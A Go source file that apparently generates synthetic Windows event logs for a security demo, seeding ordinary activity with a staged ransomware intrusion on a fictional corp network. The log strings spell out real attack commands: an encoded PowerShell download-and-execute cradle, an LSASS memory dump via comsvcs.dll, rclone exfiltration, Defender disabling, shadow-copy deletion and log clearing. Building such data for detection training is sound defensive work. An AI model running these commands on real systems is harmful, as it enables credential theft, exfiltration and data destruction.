package demo

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"strings"
	"time"
	"unicode/utf16"
)

// windowsEvents are the Security, System and Sysmon events of three Windows machines, as a collector writes them: one
// JSON object a line.
func windowsEvents(n night) []byte {
	w := &windowsJournal{newJournal(n, 5)}
	w.ordinary()
	w.phishing()
	w.credentials()
	w.fileServer()
	w.ransom()
	for i, e := range w.sorted() {
		w.entries[i].text = strings.Replace(e.text, `"RECORD"`, fmt.Sprint(88000+i), 1)
	}
	return w.lines()
}

type windowsJournal struct{ *journal }

const (
	workstation = "WS07.corp.example.com"
	fileserver  = "FS01.corp.example.com"
	controller  = "DC01.corp.example.com"
	wsAddress   = "192.168.20.37"
)

// fields are names and values in turn.
type fields []any

// event adds one event; its own fields stand behind those that all have.
func (w *windowsJournal) event(t time.Time, host, channel string, id int, own fields) {
	provider := map[string]string{
		"Security": "Microsoft-Windows-Security-Auditing", "System": "Service Control Manager",
		"Microsoft-Windows-Sysmon/Operational": "Microsoft-Windows-Sysmon",
	}[channel]
	if id == 1102 {
		provider = "Microsoft-Windows-Eventlog"
	}
	all := append(fields{
		"TimeCreated", t.Format("2006-01-02T15:04:05.0000000Z"), "EventRecordID", "RECORD", "Channel", channel,
		"Provider_Name", provider, "EventID", id, "Computer", host,
	}, own...)
	w.add(t, "%s", object(all))
}

// sysmonTime is a time as Sysmon writes it.
func sysmonTime(t time.Time) string { return t.Format("2006-01-02 15:04:05.000") }

// object writes names and values as JSON, in their order.
func object(f fields) string {
	var b strings.Builder
	b.WriteByte('{')
	for i := 0; i < len(f); i += 2 {
		if i > 0 {
			b.WriteByte(',')
		}
		for n, v := range f[i : i+2] {
			data, err := json.Marshal(v)
			if err != nil {
				panic(err) // only strings, numbers and maps of them are passed
			}
			b.Write(data)
			if n == 0 {
				b.WriteByte(':')
			}
		}
	}
	b.WriteByte('}')
	return b.String()
}

const sysmon = "Microsoft-Windows-Sysmon/Operational"

// process is a program that is started.
type process struct{ user, image, command, parent string }

func (w *windowsJournal) start(t time.Time, host string, p process) {
	w.event(t, host, sysmon, 1, fields{
		"UtcTime", sysmonTime(t), "ProcessId", fmt.Sprint(1000 + w.IntN(9000)), "Image", p.image,
		"CommandLine", p.command, "User", p.user, "IntegrityLevel", "Medium", "ParentImage", p.parent,
	})
}

func (w *windowsJournal) logon(t time.Time, host, user, addr string, kind int) {
	w.event(t, host, "Security", 4624, fields{
		"SubjectUserName", "-", "TargetUserName", user, "TargetDomainName", "CORP", "LogonType", fmt.Sprint(kind),
		"LogonProcessName", "Kerberos", "AuthenticationPackageName", "Kerberos", "IpAddress", addr, "IpPort", fmt.Sprint(49000 + w.IntN(9000)),
	})
}

const (
	sys32      = `C:\Windows\System32\`
	explorer   = `C:\Windows\explorer.exe`
	powershell = sys32 + `WindowsPowerShell\v1.0\powershell.exe`
	word       = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
)

// ordinary is the work of a Friday evening and the machines' own.
func (w *windowsJournal) ordinary() {
	users := []string{"anna", "ben", "carla", "dirk", "eva"}
	for range 150 {
		u := users[w.IntN(len(users))]
		w.logon(w.whenever(w.dusk(), w.at("19:30:00")), w.pick(controller, fileserver), u, fmt.Sprintf("192.168.20.%d", 31+w.IntN(10)), 3)
	}
	for range 120 {
		w.logon(w.whenever(w.dusk(), w.dawn()), controller, w.pick("FS01$", "WS07$", "WS03$"), w.pick("192.168.20.10", wsAddress, "192.168.20.33"), 3)
	}
	for range 9 {
		w.event(w.whenever(w.dusk(), w.at("19:00:00")), controller, "Security", 4625, fields{"TargetUserName", users[w.IntN(len(users))], "LogonType", "3", "Status", "0xc000006d", "SubStatus", "0xc000006a", "IpAddress", fmt.Sprintf("192.168.20.%d", 31+w.IntN(10))})
	}
	programs := []process{
		{`CORP\carla`, `C:\Program Files\Microsoft\Edge\Application\msedge.exe`, `"C:\Program Files\Microsoft\Edge\Application\msedge.exe" --type=renderer`, `C:\Program Files\Microsoft\Edge\Application\msedge.exe`},
		{`CORP\carla`, word, `"` + word + `" /n "C:\Users\carla\Documents\offer.docx"`, explorer},
		{`NT AUTHORITY\SYSTEM`, sys32 + `svchost.exe`, sys32 + `svchost.exe -k netsvcs -p -s Schedule`, sys32 + `services.exe`},
		{`NT AUTHORITY\SYSTEM`, sys32 + `taskhostw.exe`, `taskhostw.exe`, sys32 + `svchost.exe`},
		{`CORP\carla`, sys32 + `notepad.exe`, `"` + sys32 + `notepad.exe" C:\Users\carla\Desktop\list.txt`, explorer},
		{`CORP\anna`, powershell, `powershell.exe -ExecutionPolicy RemoteSigned -File C:\Scripts\Backup-Check.ps1`, sys32 + `svchost.exe`},
		{`NT AUTHORITY\SYSTEM`, `C:\Program Files\Windows Defender\MpCmdRun.exe`, `"C:\Program Files\Windows Defender\MpCmdRun.exe" -SignatureUpdate`, sys32 + `svchost.exe`},
	}
	for range 190 {
		w.start(w.whenever(w.dusk(), w.dawn()), w.pick(workstation, fileserver), programs[w.IntN(len(programs))])
	}
	for range 40 {
		w.event(w.whenever(w.dusk(), w.dawn()), workstation, sysmon, 10, fields{"SourceImage", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.26\MsMpEng.exe`, "TargetImage", sys32 + `lsass.exe`, "GrantedAccess", "0x1000", "CallTrace", sys32 + `ntdll.dll+9d4c4`})
	}
}

// encoded writes a command as PowerShell's -EncodedCommand takes it: UTF-16LE in base64.
func encoded(command string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(command)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// phishing is the document that carla opens.
func (w *windowsJournal) phishing() {
	carla := `CORP\carla`
	w.start(w.at("18:07:12"), workstation, process{carla, word, `"` + word + `" /n "C:\Users\carla\Downloads\Invoice_` + w.begin.Format("20060102") + `.docm"`, explorer})
	w.start(w.at("18:07:31"), workstation, process{carla, powershell, `powershell.exe -nop -w hidden -enc ` + encoded("IEX (New-Object Net.WebClient).DownloadString('http://"+intruder+"/a')"), word})
	w.start(w.at("18:07:40"), workstation, process{carla, powershell, `powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://` + intruder + `/a')"`, powershell})
	w.event(w.at("18:08:02"), workstation, sysmon, 13, fields{"EventType", "SetValue", "UtcTime", sysmonTime(w.at("18:08:02")), "Image", powershell, "TargetObject", `HKU\S-1-5-21-1004336348-1177238915-682003330-1131\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveSync`, "Details", `powershell -w hidden -f C:\Users\Public\sync.ps1`, "User", carla})
	for i, c := range []string{"whoami /all", "net user /domain", `net group "Domain Admins" /domain`, "nltest /domain_trusts", "ipconfig /all", "systeminfo"} {
		exe := sys32 + strings.Fields(c)[0] + ".exe"
		w.start(w.at("18:15:04").Add(time.Duration(i*23)*time.Second), workstation, process{carla, exe, c, powershell})
	}
}

// credentials is how the intruder gets an administrator's password out of memory.
func (w *windowsJournal) credentials() {
	w.start(w.at("25:40:10"), workstation, process{`CORP\carla`, sys32 + `cmd.exe`, `cmd /c start C:\Users\Public\s.exe`, sys32 + `fodhelper.exe`})
	w.start(w.at("25:40:12"), workstation, process{`CORP\carla`, `C:\Users\Public\s.exe`, `C:\Users\Public\s.exe`, sys32 + `cmd.exe`})
	w.start(w.at("25:41:02"), workstation, process{`NT AUTHORITY\SYSTEM`, sys32 + `rundll32.exe`, `rundll32.exe ` + sys32 + `comsvcs.dll, MiniDump 712 C:\Users\Public\l.bin full`, `C:\Users\Public\s.exe`})
	w.event(w.at("25:41:02").Add(300*time.Millisecond), workstation, sysmon, 10, fields{"UtcTime", sysmonTime(w.at("25:41:02").Add(300 * time.Millisecond)), "SourceImage", sys32 + `rundll32.exe`, "TargetImage", sys32 + `lsass.exe`, "GrantedAccess", "0x1fffff", "CallTrace", sys32 + `ntdll.dll+9d4c4|` + sys32 + `dbgcore.DLL+6f5e`})
}

// fileServer is how the intruder goes on to the file server.
func (w *windowsJournal) fileServer() {
	w.logon(w.at("26:05:20"), fileserver, "it-admin", wsAddress, 3)
	w.event(w.at("26:05:22"), fileserver, "System", 7045, fields{"ServiceName", "PSEXESVC", "ImagePath", `%SystemRoot%\PSEXESVC.exe`, "ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"})
	w.event(w.at("26:05:40"), fileserver, "System", 7045, fields{"ServiceName", "updsvc", "ImagePath", `%COMSPEC% /c C:\Windows\Temp\u.bat`, "ServiceType", "user mode service", "StartType", "demand start", "AccountName", "LocalSystem"})
	sid := "S-1-5-21-3344556677-1122334455-998877665-1009"
	w.start(w.at("26:07:01"), fileserver, process{`NT AUTHORITY\SYSTEM`, sys32 + `net.exe`, `net user helpdesk2 Zw7-autumn! /add`, sys32 + `cmd.exe`})
	w.event(w.at("26:07:01").Add(200*time.Millisecond), fileserver, "Security", 4720, fields{"TargetUserName", "helpdesk2", "TargetDomainName", "FS01", "TargetSid", sid, "SubjectUserName", "FS01$"})
	w.start(w.at("26:07:09"), fileserver, process{`NT AUTHORITY\SYSTEM`, sys32 + `net.exe`, `net localgroup administrators helpdesk2 /add`, sys32 + `cmd.exe`})
	w.event(w.at("26:07:09").Add(200*time.Millisecond), fileserver, "Security", 4732, fields{"MemberName", "-", "MemberSid", sid, "TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544", "SubjectUserName", "FS01$"})
	w.start(w.at("26:09:30"), fileserver, process{`FS01\helpdesk2`, powershell, `powershell Add-MpPreference -ExclusionPath C:\Users\Public`, sys32 + `cmd.exe`})
	w.start(w.at("26:10:12"), fileserver, process{`FS01\helpdesk2`, powershell, `powershell Set-MpPreference -DisableRealtimeMonitoring $true`, sys32 + `cmd.exe`})
	w.start(w.at("27:02:44"), fileserver, process{`FS01\helpdesk2`, `C:\Users\Public\rclone.exe`, `rclone.exe copy D:\Data mega:d --transfers 16 --config C:\Users\Public\r.conf`, sys32 + `cmd.exe`})
}

// ransom is the end.
func (w *windowsJournal) ransom() {
	for i, c := range []string{
		"vssadmin.exe delete shadows /all /quiet", "wbadmin.exe delete catalog -quiet", "bcdedit.exe /set {default} recoveryenabled No",
		"wevtutil.exe cl Security",
	} {
		exe := sys32 + strings.Fields(c)[0]
		w.start(w.at("27:42:03").Add(time.Duration(i*6)*time.Second), fileserver, process{`FS01\helpdesk2`, exe, c, sys32 + `cmd.exe`})
	}
	w.event(w.at("27:42:22"), fileserver, "Security", 1102, fields{"SubjectUserName", "helpdesk2", "SubjectDomainName", "FS01", "SubjectLogonId", "0x2f81a4"})
	t := w.at("27:44:00")
	for i := range 90 {
		t = t.Add(time.Duration(150+w.IntN(300)) * time.Millisecond)
		name := fmt.Sprintf(`D:\Data\%s\%s-%03d.%s.k7q2`, w.pick("Offers", "Invoices", "Staff", "Drawings"), w.pick("customer", "draft", "report"), i, w.pick("docx", "xlsx", "pdf"))
		w.event(t, fileserver, sysmon, 11, fields{"UtcTime", sysmonTime(t), "Image", `C:\Users\Public\svc.exe`, "TargetFilename", name, "User", `FS01\helpdesk2`})
	}
	w.event(w.at("27:45:10"), fileserver, sysmon, 11, fields{"UtcTime", sysmonTime(w.at("27:45:10")), "Image", `C:\Users\Public\svc.exe`, "TargetFilename", `D:\Data\HOW_TO_RECOVER_FILES.txt`, "User", `FS01\helpdesk2`})
}
